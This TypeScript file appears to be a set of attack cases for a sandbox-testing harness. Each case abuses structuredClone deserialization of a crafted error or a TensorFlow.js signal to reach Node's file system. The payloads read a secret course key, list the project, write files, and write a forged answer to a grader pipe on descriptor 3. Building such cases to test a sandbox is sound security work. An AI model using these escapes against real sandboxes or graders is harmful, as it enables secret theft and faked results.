import { join } from 'node:path';
import type { Attack } from 'lab-harness/authoring';
import { awaiting, doing, literal, stealing } from './makers.ts';

const steal = stealing('transferables');
const stealLater = awaiting('transferables');
const act = doing('transferables');

/** What a copied object is to be made of: a class of Node's own, from what the object says of itself. */
const HANDLE = "({ data: { handle: { fd: 3 } }, deserializeInfo: 'internal/fs/promises:FileHandle' })";

/** An object of Node's that can be copied, and says what it is to be made of. */
const CRAFTED = `((error) => Object.assign(error, { [Object.getOwnPropertySymbols(Object.getPrototypeOf(error))[0]]: () => ${HANDLE} }))((() => { try { return atob('*'); } catch (error) { return error as object; } })() as object)`;

/** The same by the modules that TensorFlow.js holds on to. */
const OF_PACKAGE = `((signal) => Object.assign(signal, { [Object.getOwnPropertySymbols(Object.getPrototypeOf(signal)).find(({ description }) => description === 'messaging_transfer_symbol')!]: () => ${HANDLE} }))((tf.env().platform as any).util.transferableAbortController().signal)`;

/** Node's file system, from a handle: a stream of its class holds it. */
const fileSystem = (handle: string) =>
  `((stream) => stream[Object.getOwnPropertySymbols(stream).find(({ description }) => description === 'kFs')!])((({ constructor }) => new constructor('/etc/hostname').on('error', () => {}))(${handle}.createReadStream()) as any)`;

const CLONED = `(structuredClone(${CRAFTED}) as any)`;
const FS = fileSystem(CLONED);

/** Attacks that have the language's copying make objects of Node's own. */
export const transferables: readonly Attack[] = [
  steal(
    'cloned-file-system',
    'reads by the file system of a copied error',
    ({ secrets }) => `${FS}.readFileSync(${literal(secrets.courseKey)}, 'utf8')`,
  ),
  steal(
    'cloned-listing',
    'lists the project by the file system of a copied error',
    ({ project }) => `${FS}.readdirSync(${literal(project)}).join()`,
  ),
  stealLater(
    'cloned-promises',
    'reads with the promises of a copied error',
    ({ secrets }) => `${FS}.promises.readFile(${literal(secrets.courseKey)}, 'utf8')`,
  ),
  stealLater(
    'cloned-by-package',
    'reads by the file system of what a package’s own modules copy',
    ({ secrets }) =>
      `((signal) => ${fileSystem('(structuredClone(signal, { transfer: [signal] }) as any)')})(${OF_PACKAGE}).readFileSync(${literal(secrets.courseKey)}, 'utf8')`,
  ),
  act(
    'cloned-writer',
    'writes by the file system of a copied error',
    ({ writable }) => `${FS}.writeFileSync(${literal(join(writable, 'cloned'))}, 'x');`,
  ),
  act(
    'cloned-pipe',
    'writes an answer to the pipe by a handle of it',
    `${FS}.writeSync(3, '{"id":"1","value":[1]}\\n');`,
    ['threw', 'protocol'],
  ),
];
